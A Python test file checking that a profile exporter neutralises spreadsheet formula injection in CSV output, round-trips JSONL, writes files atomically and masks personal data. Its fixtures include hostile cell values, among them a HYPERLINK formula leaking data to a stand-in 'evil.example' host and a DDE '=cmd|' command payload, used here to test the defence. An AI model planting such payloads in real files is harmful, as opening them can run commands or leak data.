"""Exporting a profile: CSV that no spreadsheet runs (checked cell by cell), JSONL that ingests back to the same profile."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.people import write_people
from tests.storekit import NOW, cli, ingest, profile_doc
from tui_profiles.config import Settings
from tui_profiles.ingest.export import FORMULA_STARTS, export_profile, neutralise, write_export
from tui_profiles.store import queries
from tui_profiles.store.engine import make_engine
from tui_profiles.store.export import iso

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(1)",
    "tab": "\tcmd",
    "cr": "\rcmd",
    "quotes": 'say "hi", then "bye"',
    "comma": "a,b,c",
    "newline": "line one\nline two\r\nline three",
    "unicode": "Zoë ☃ \u202eevil",
    "plain": "fine",
}


def hostile_store(url: str, folder: Path) -> None:
    lines = [
        {"type": "identify", "userId": "=cmd|' /C calc'!A0", "messageId": "h0", "timestamp": "2024-03-04T09:00:00Z",
         "traits": {"name": HOSTILE["formula"], "email": "@evil.example", **HOSTILE}},
        {"type": "track", "userId": "=cmd|' /C calc'!A0", "event": "+1", "messageId": "h1", "timestamp": "2024-03-04T09:01:00Z",
         "properties": HOSTILE, "context": {"page": {"path": "-2/path"}}},
        {"type": "page", "userId": "=cmd|' /C calc'!A0", "name": "@SUM(1)", "messageId": "h2", "timestamp": "2024-03-04T09:02:00Z",
         "properties": {"path": "=1+1", "title": HOSTILE["newline"]}},
        {"type": "track", "userId": "=cmd|' /C calc'!A0", "event": HOSTILE["newline"], "messageId": "h3",
         "timestamp": "2024-03-04T10:00:00Z", "properties": {}},
    ]  # fmt: skip
    path = folder / "hostile.jsonl"
    path.write_text("".join(json.dumps(x) + "\n" for x in lines))
    ingest(url, [path])


HOSTILE_ID = "=cmd|' /C calc'!A0"


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def unneutralise(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell


def test_neutralise():
    for value in ("=1", "+1", "-2", "@SUM(1)", "\tx", "\rx"):
        assert neutralise(value) == "'" + value
    for value in ("", "1", "a=b", " =1", "'=1", "{}", "2024-03-04T09:00:00.000Z"):
        assert neutralise(value) == value


def test_csv_of_hostile_values_checked_cell_by_cell(db_url, tmp_path):
    hostile_store(db_url, tmp_path)
    engine = make_engine(db_url)
    with engine.connect() as conn:
        pid = queries.find_profile(conn, HOSTILE_ID)
        timeline = queries.timeline(conn, pid)
        sessions = queries.sessions_of(conn, pid, settings=Settings(), now_ms=NOW)
    out = tmp_path / "export.csv"
    assert export_profile(engine, pid, out, fmt="csv", settings=Settings(), now_ms=NOW) == 4
    engine.dispose()

    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: spreadsheets read the file as UTF-8
    rows = read_csv(out)
    # Every field quoted, records end in CRLF: writing what was read back with QUOTE_ALL gives the same bytes.
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    assert again.getvalue().encode("utf-8") == raw[3:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"a spreadsheet would evaluate {cell!r}"

    blank = rows.index([])
    summary, events = dict(rows[1:blank]), rows[blank + 1 :]
    assert rows[0] == ["field", "value"]
    assert summary["id"] == "'" + HOSTILE_ID and unneutralise(summary["id"]) == HOSTILE_ID
    assert summary["name"] == "'" + HOSTILE["formula"] and summary["email"] == "'@evil.example"
    assert summary["events"] == "4" and summary["sessions"] == "2" and summary["kind"] == "identified"
    traits = json.loads(summary["traits"])
    assert traits["formula"] == HOSTILE["formula"] and traits["newline"] == HOSTILE["newline"]

    assert events[0] == ["time", "session", "type", "name", "page", "properties"]
    body = events[1:]
    assert len(body) == len(timeline) == 4
    for row, e in zip(body, timeline):
        time, session, type_, name, page, properties = row
        assert time == iso(e.ts)
        assert session == e.session_id and type_ == e.type
        assert unneutralise(name) == (e.name or "")
        assert json.loads(properties) == e.properties
    assert [r[3] for r in body] == ["", "'+1", "'@SUM(1)", HOSTILE["newline"]]
    assert [r[4] for r in body] == ["", "'-2/path", "'=1+1", ""]  # a track event's page: where it was sent from
    assert json.loads(body[1][5]) == HOSTILE  # quotes, commas, newlines, tabs survive inside the JSON cell
    assert {r[1] for r in body} == {s.id for s in sessions}


def test_jsonl_writes_the_raw_events_back_and_they_ingest_to_the_same_profile(db_url, tmp_path):
    ingest(db_url, [write_people(tmp_path / "inbox")])
    engine = make_engine(db_url)
    with engine.connect() as conn:
        pid = queries.find_profile(conn, "user-bob")
    out = tmp_path / "bob.jsonl"
    written = export_profile(engine, pid, out, fmt="jsonl", settings=Settings(), now_ms=NOW)
    engine.dispose()
    lines = out.read_bytes().splitlines()
    assert written == len(lines) == profile_doc(db_url, "user-bob", NOW)["events"] == 14
    assert all(isinstance(json.loads(line), dict) for line in lines)
    copy = f"sqlite:///{tmp_path}/copy.db"
    summary = ingest(copy, [out])
    assert (summary.events, summary.rejected) == (14, 0)
    assert comparable(profile_doc(copy, "user-bob", NOW)) == comparable(profile_doc(db_url, "user-bob", NOW))


def comparable(doc: dict) -> dict:
    """A profile document without what is particular to one store: session ids carry row ids; companies come unordered."""
    doc = dict(doc)
    doc["companies"] = sorted(doc["companies"])
    doc["session_list"] = [{k: v for k, v in s.items() if k != "id"} for s in doc["session_list"]]
    doc["timeline"] = [{k: v for k, v in e.items() if k != "session_id"} for e in doc["timeline"]]
    return doc


def test_a_failed_export_leaves_no_file(tmp_path):
    out = tmp_path / "x.csv"
    out.write_text("the old file")

    def broken_events():
        yield from ()
        raise RuntimeError("the store went away")

    with pytest.raises(RuntimeError):
        write_export(out, "csv", [("id", "u")], broken_events())
    assert out.read_text() == "the old file" and sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]
    with pytest.raises(ValueError):
        write_export(out, "xlsx", [], [])


def test_the_export_command(db_url, tmp_path):
    hostile_store(db_url, tmp_path)
    run = cli("export", HOSTILE_ID, "--out", str(tmp_path / "p.csv"), db=db_url)
    assert run.returncode == 0, run.stderr
    assert "wrote 4 events" in run.stdout and read_csv(tmp_path / "p.csv")[0] == ["field", "value"]
    run = cli("export", HOSTILE_ID, "--out", str(tmp_path / "p.jsonl"), db=db_url)  # the suffix picks the format
    assert run.returncode == 0 and len((tmp_path / "p.jsonl").read_text().splitlines()) == 4
    run = cli("export", HOSTILE_ID, "--out", str(tmp_path / "p.txt"), "--format", "jsonl", db=db_url)
    assert json.loads((tmp_path / "p.txt").read_text().splitlines()[0])["messageId"] == "h0"
    run = cli("export", "nobody", "--out", str(tmp_path / "n.csv"), db=db_url)
    assert run.returncode == 1 and "no profile" in run.stderr and not (tmp_path / "n.csv").exists()
    run = cli("export", HOSTILE_ID, "--out", str(tmp_path / "missing" / "p.csv"), db=db_url)
    assert run.returncode == 1 and "no such folder" in run.stderr


def test_a_masked_export_holds_no_personal_value(db_url, tmp_path):
    """`tui-profiles --mask export`, as the app's export while masking is on: emails, names, phones and IPs masked."""
    lines = [
        {"type": "identify", "userId": "u-1", "anonymousId": "zoe.quinn@home.example", "messageId": "p0",
         "timestamp": "2024-03-04T09:00:00Z",
         "traits": {"name": "Zoe Quinn", "email": "zoe@work.example", "phone": "+44 20 7946 0958", "plan": "pro",
                    "address": {"street": "1 Long Lane", "city": "London"}},
         "context": {"ip": "203.0.113.7", "library": {"name": "analytics.js", "version": "2.11.1"}}},
        {"type": "track", "userId": "u-1", "event": "Invite Sent", "messageId": "p1", "timestamp": "2024-03-04T09:01:00Z",
         "properties": {"invitee_email": "max@other.example", "note": "call me on +1 (555) 010-9999", "count": 3},
         "context": {"ip": "2001:db8::7"}},
    ]  # fmt: skip
    (tmp_path / "p.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))
    ingest(db_url, [tmp_path / "p.jsonl"])
    personal = ["zoe.quinn@home.example", "Zoe Quinn", "Zoe", "Quinn", "zoe@work.example", "7946", "Long Lane", "203.0.113.7",
                "2001:db8::7", "max@other.example", "010-9999"]  # fmt: skip
    for name in ("m.csv", "m.jsonl"):
        run = cli("--mask", "export", "u-1", "--out", str(tmp_path / name), db=db_url)
        assert run.returncode == 0, run.stderr
        written = (tmp_path / name).read_text(encoding="utf-8-sig")
        assert [value for value in personal if value in written] == []
        assert "z•••@w•••.example" in written and "Invite Sent" in written and "2024-03-04" in written
    assert "analytics.js" in written  # the JSONL's context keeps what names no one
    summary = dict(r for r in read_csv(tmp_path / "m.csv")[1:3])
    assert summary == {"id": "u-1", "kind": "identified"}  # an opaque id stays
    run = cli("export", "u-1", "--out", str(tmp_path / "plain.csv"), db=db_url)  # without --mask: as stored
    assert "Zoe Quinn" in (tmp_path / "plain.csv").read_text(encoding="utf-8-sig")
